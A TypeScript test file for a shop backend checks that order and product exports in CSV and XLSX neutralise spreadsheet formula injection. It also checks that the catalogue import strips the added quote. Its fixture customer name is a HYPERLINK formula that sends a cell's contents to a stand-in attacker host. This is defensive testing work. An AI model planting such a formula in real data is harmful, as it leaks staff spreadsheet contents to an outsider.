import type { Product } from '@shop/core/schemas/product';
import {
  ORDER_COLUMN_LABELS,
  PRODUCT_COLUMN_LABELS,
  PRODUCT_COLUMNS,
  type ImportResult,
} from '@shop/core/schemas/product-tools';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { useTestApp } from '../test/app.ts';

// Issue 23 point 3: a public order named `=HYPERLINK(…)` reached the staff's CSV export as a live
// formula. Every CSV and XLSX the shop writes puts `'` before a cell starting with = + - @, a tab or
// a carriage return (OWASP CSV injection); the catalogue import takes it off again.

const t = useTestApp();
const NAME = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")';
const EMAIL = '-2+3@ke-xau.example';

/** The exports write Vietnamese headers; the rows are read back under the columns' keys. */
const KEY_OF = new Map(
  [...Object.entries(ORDER_COLUMN_LABELS), ...Object.entries(PRODUCT_COLUMN_LABELS)].map(([key, label]) => [
    label,
    key,
  ]),
);
async function csvRows(url: string): Promise<Record<string, string>[]> {
  const res = await t.as('admin', { method: 'GET', url });
  expect(res.statusCode, res.body).toBe(200);
  return Papa.parse<Record<string, string>>(res.rawPayload.toString('utf8').slice(1), {
    header: true,
    transformHeader: (label) => KEY_OF.get(label) ?? label,
  }).data;
}
async function xlsxCells(url: string): Promise<unknown[]> {
  const res = await t.as('admin', { method: 'GET', url });
  expect(res.statusCode).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const cells: unknown[] = [];
  book.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
  return cells;
}

describe('exports are safe to open', () => {
  it('a public order whose name and email begin with = and - is exported as text, in CSV and XLSX', async () => {
    const p = (await t.app.inject({ method: 'GET', url: '/api/products/1' })).json<Product>();
    const placed = await t.app.inject({
      method: 'POST',
      url: '/api/orders',
      remoteAddress: '10.23.3.1',
      payload: {
        customer: NAME,
        acceptTerms: true,
        phone: '0901234599',
        email: EMAIL,
        shippingAddress: { province: 'Thành phố Hà Nội', ward: 'Phường Hoàn Kiếm', street: '@1 Tràng Tiền' },
        items: [{ productId: 1, variantId: p.variants![0]!.id, quantity: 1 }],
      },
    });
    expect(placed.statusCode, placed.body).toBe(201);
    const code = placed.json<{ code: string }>().code;

    const row = (await csvRows('/api/orders/export?format=csv')).find((r) => r.order_code === code)!;
    expect(row.customer).toBe(`'${NAME}`);
    expect(row.email).toBe(`'${EMAIL}`);
    expect(row.address).toMatch(/^'@1 Tràng Tiền/);
    // Numbers stay numbers (a negative amount is a number, not text).
    expect(row.quantity).toBe('1');

    const cells = await xlsxCells('/api/orders/export?format=xlsx');
    expect(cells).toContain(`'${NAME}`);
    expect(cells).toContain(`'${EMAIL}`);
    expect(cells.some((c) => typeof c === 'object' && c !== null && 'formula' in c)).toBe(false);
    expect(cells.filter((c) => typeof c === 'string' && /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('a catalogue export with such names imports back unchanged, the leading quote taken off', async () => {
    await t.database.db.execute(
      sql`update products set name = ${'=1+2 Đồng hồ'}, description = ${'+84 Mô tả\tcó tab'} where id = 2`,
    );
    await t.database.db.execute(sql`update product_variants set color = ${'-Đen'} where product_id = 2`);
    const rows = await csvRows('/api/products/export?format=csv');
    const two = rows.filter((r) => r.product_id === '2');
    expect(two[0]!.name).toBe("'=1+2 Đồng hồ");
    expect(two[0]!.description).toBe("'+84 Mô tả\tcó tab");
    expect(two[0]!.color).toBe("'-Đen");
    expect(await xlsxCells('/api/products/export?format=xlsx')).toContain("'=1+2 Đồng hồ");

    const file = Papa.unparse({
      fields: [...PRODUCT_COLUMNS],
      data: rows.map((r) => PRODUCT_COLUMNS.map((c) => r[c] ?? '')),
    });
    const boundary = '----formulas';
    const res = await t.as('admin', {
      method: 'POST',
      url: '/api/products/import?dryRun=true',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
      payload: Buffer.concat([
        Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="san-pham.csv"\r\n\r\n`),
        Buffer.from(file),
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]),
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json<ImportResult>()).toMatchObject({ create: 0, update: 0, errors: 0, unchanged: rows.length });
  });
});
